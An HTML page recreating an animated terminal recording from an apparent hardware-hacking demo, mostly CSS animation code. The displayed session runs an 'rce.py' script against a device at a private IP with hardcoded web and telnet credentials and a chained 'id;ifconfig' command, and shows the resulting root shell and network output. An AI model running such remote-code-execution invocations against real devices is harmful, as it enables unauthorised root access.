
These frames come from a looping animation (1064x527 px, 5700 ms). An HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  :root { --cw: 8.1px; --ch: 18.73px; --loop: 5.7s step-end infinite; }
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #000; }
  #stage { position: relative; width: 1064px; height: 527px; overflow: hidden; background: #000; }
  #stage > * { position: absolute; }

  .edge-top { left: 0; top: 0; width: 1064px; height: 2px; background: #262b31; }
  .edge-left { left: 0; top: 0; width: 2px; height: 527px; background: #1c2127; }
  .edge-right { left: 1059px; top: 0; width: 5px; height: 527px; background: #3b3f49; }

  pre, .bar {
    margin: 0;
    font: 13.5px/var(--ch) "Noto Sans Mono", "DejaVu Sans Mono", monospace;
    text-rendering: geometricPrecision;
    font-variant-ligatures: none;
    white-space: pre;
  }
  pre { left: 2.5px; top: 2.7px; color: #1cfc1c; }
  .r { color: #b80404; }
  .y { color: #fce94f; }
  .c { color: #34e2e2; }
  .p { color: #4e9a06; }
  .g { color: #8ae234; }
  .w { color: #f2f2f2; font-weight: bold; }

  .bar { left: 2.5px; top: 508.4px; width: 1053px; height: 19px; background: #57a80a; color: #1f3d16; }
  .bar span { position: absolute; left: 0; top: 0; }
  .bar .clock { left: auto; right: 0; }

  .cursor {
    left: 2.5px; top: 2.7px; width: var(--cw); height: var(--ch);
    background: #0f0; animation: cursor var(--loop);
  }
  .mouse { left: 0; top: 0; animation: mouse 5.7s infinite; }
  .before { animation: before var(--loop); }
  .after { animation: after var(--loop); }
  .idle { animation: idle var(--loop); }
  .busy { animation: busy var(--loop); }

  @keyframes before { 0% { visibility: visible } 32.807%, 100% { visibility: hidden } }
  @keyframes after { 0% { visibility: hidden } 32.807%, 100% { visibility: visible } }
  @keyframes idle { 0%, 39.825%, 100% { visibility: visible } 21.579% { visibility: hidden } }
  @keyframes busy { 0%, 39.825%, 100% { visibility: hidden } 21.579% { visibility: visible } }

  /* blinks every 600 ms while following the prompt */
  @keyframes cursor {
    0%, 16.316% { transform: translate(calc(23 * var(--cw)), calc(2 * var(--ch))); visibility: visible }
    5.789% { transform: translate(calc(23 * var(--cw)), calc(2 * var(--ch))); visibility: hidden }
    18.07% { transform: translate(0, calc(3 * var(--ch))); visibility: visible }
    21.579% { transform: translate(0, calc(9 * var(--ch))); visibility: visible }
    26.842% { transform: translate(0, calc(9 * var(--ch))); visibility: hidden }
    37.368%, 60.175%, 81.228% { transform: translate(calc(6 * var(--cw)), calc(26 * var(--ch))); visibility: visible }
    49.649%, 70.702%, 91.754%, 100% { transform: translate(calc(6 * var(--cw)), calc(26 * var(--ch))); visibility: hidden }
  }
  @keyframes mouse {
    0% { transform: translate(234px, 134px); opacity: 1; animation-timing-function: step-end }
    16.316% { transform: translate(234px, 128.5px); opacity: 0; animation-timing-function: step-end }
    32.807% { transform: translate(233.5px, 128.5px); opacity: 1; animation-timing-function: step-end }
    39.825% { transform: translate(233.5px, 128.5px); opacity: 1; animation-timing-function: ease-in-out }
    47.895% { transform: translate(222px, 140px); opacity: 1; animation-timing-function: step-end }
    49.649%, 100% { transform: translate(222px, 140px); opacity: 0 }
  }
</style>
</head>
<body>
<div id="stage">
  <div class="edge-top"></div>
  <div class="edge-left"></div>
  <div class="edge-right"></div>

<pre class="before">(.venv) <span class="r">┌─[</span><span class="w">✗</span><span class="r">]─[</span>mossquill<span class="y">@</span><span class="c">vorlet</span><span class="r">]─[</span><span class="p">~/hardwarehacking/dopkin</span><span class="r">]</span>
<span class="r">└──╼</span> <span class="y">$</span>python rce.py --host 10.99.99.151 --port 12925 --loginuse admin --loginpas 888888 --tn-user brasknet2017 --tn-pass 20170912
--command "id;ifconfig"</pre>

<pre class="after">id;ifconfig
exit
<span class="g">Welcome to</span> OrvaKit.
# id;ifconfig
uid=0(brasknet2017) gid=0(root) groups=0(root)
eth0      Link encap:Ethernet  HWaddr 28:AD:3E:3B:B9:21
          inet addr:10.99.99.151  Bcast:10.99.99.255  Mask:255.255.255.0
          inet6 addr: fe80::2aad:3eff:fe3b:b921/64 Scope:Link
          UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1
          RX packets:1977 errors:0 dropped:1593 overruns:0 frame:0
          TX packets:384 errors:0 dropped:0 overruns:0 carrier:0
          collisions:0 txqueuelen:1000
          RX bytes:102190 (99.7 KiB)  TX bytes:38809 (37.8 KiB)
          Interrupt:12

lo        Link encap:Local Loopback
          inet addr:127.0.0.1  Mask:255.0.0.0
          inet6 addr: ::1/128 Scope:Host
          UP LOOPBACK RUNNING  MTU:16436  Metric:1
          RX packets:3 errors:0 dropped:0 overruns:0 frame:0
          TX packets:3 errors:0 dropped:0 overruns:0 carrier:0
          collisions:0 txqueuelen:0
          RX bytes:3168 (3.0 KiB)  TX bytes:3168 (3.0 KiB)

# exit
(.venv) <span class="r">┌─[</span>mossquill<span class="y">@</span><span class="c">vorlet</span><span class="r">]─[</span><span class="p">~/hardwarehacking/dopkin</span><span class="r">]</span>
<span class="r">└──╼</span> <span class="y">$</span></pre>

  <div class="cursor"></div>

  <div class="bar"><span class="idle">[pt] 0:sudo- 2:bash* 3:bash</span><span class="busy">[pt] 0:sudo- 2:python* 3:bash</span><span class="clock">"vorlet" 19:37 05-oct-25</span></div>

  <svg class="mouse" width="1" height="1" overflow="visible" fill="none">
    <path id="beam" d="M-2.5-5.5H-1L0-4.5 1-5.5H2.5M-2.5 5.5H-1L0 4.5 1 5.5H2.5M0-4.5V4.5" stroke="#000" stroke-width="3"/>
    <use href="#beam" style="display:none"/>
    <path d="M-2.5-5.5H-1L0-4.5 1-5.5H2.5M-2.5 5.5H-1L0 4.5 1 5.5H2.5M0-4.5V4.5" stroke="#e4e4e4" stroke-width="1.2"/>
  </svg>
</div>
</body>
</html>
```
